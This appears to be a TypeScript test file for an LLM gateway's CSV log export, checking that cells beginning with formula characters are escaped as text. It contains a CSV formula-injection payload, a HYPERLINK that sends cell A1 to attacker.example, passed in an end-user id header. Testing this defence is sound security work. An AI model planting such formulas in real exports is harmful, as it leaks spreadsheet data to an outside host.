// The CSV export holds callers' own text (end-user ids, tags, trace ids, model names): a cell a
// spreadsheet would run as a formula is exported as text instead.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { csvField } from '../../src/http/logs-export.ts';
import { type ProxyEnv, startProxyEnv } from '../helpers/proxy-env.ts';

let env: ProxyEnv;
before(async () => {
  env = await startProxyEnv();
});
after(async () => {
  await env?.close();
});

test('csvField neutralises formula starts and keeps numbers and plain text as they are', () => {
  assert.equal(csvField('=1+2'), `"'=1+2"`);
  assert.equal(csvField('+cmd'), `"'+cmd"`);
  assert.equal(csvField('-2+3'), `"'-2+3"`);
  assert.equal(csvField('@SUM(A1)'), `"'@SUM(A1)"`);
  assert.equal(csvField('\tx'), `"'\tx"`);
  assert.equal(csvField('\rx'), `"'\rx"`);
  assert.equal(csvField('=HYPERLINK("http://x","y")'), `"'=HYPERLINK(""http://x"",""y"")"`);
  assert.equal(csvField(-1.5), '-1.5');
  assert.equal(csvField('gpt-4o-mini'), 'gpt-4o-mini');
  assert.equal(csvField('a,b'), '"a,b"');
  assert.equal(csvField(null), '');
});

test("a tenant's formula in an end-user id and a tag reaches the export as text", async () => {
  const formula = '=HYPERLINK("http://attacker.example/?d="&A1,"click")';
  const res = await fetch(`${env.gw.url}/alpha/v1/chat/completions`, {
    method: 'POST',
    headers: {
      authorization: `Bearer ${env.gw.adminKey}`,
      'content-type': 'application/json',
      'x-svc-user-id': formula,
      'x-svc-trace-id': '@evil',
    },
    body: JSON.stringify({ model: 'openai/gpt-4o-mini', messages: [{ role: 'user', content: 'hi' }] }),
  });
  assert.equal(res.status, 200, await res.text());
  const id = res.headers.get('x-svc-request-id');
  const deadline = Date.now() + 5000;
  let row: string | undefined;
  while (row === undefined && Date.now() < deadline) {
    const csv = await fetch(`${env.gw.url}/manage/v1/logs/export?format=csv`, {
      headers: { authorization: `Bearer ${env.gw.adminKey}` },
    }).then((r) => r.text());
    row = csv.split('\r\n').find((l) => l.startsWith(`${id},`));
    if (row === undefined) await new Promise((r) => setTimeout(r, 50));
  }
  assert.ok(row, 'the call is in the export');
  assert.ok(row.includes(`"'=HYPERLINK(""http://attacker.example/?d=""&A1,""click"")"`), row);
  assert.ok(row.includes(`"'@evil"`), row);
  // No cell of the row starts a formula once the spreadsheet strips the quoting.
  assert.doesNotMatch(row, /(^|,)"?[=+@]/);
});
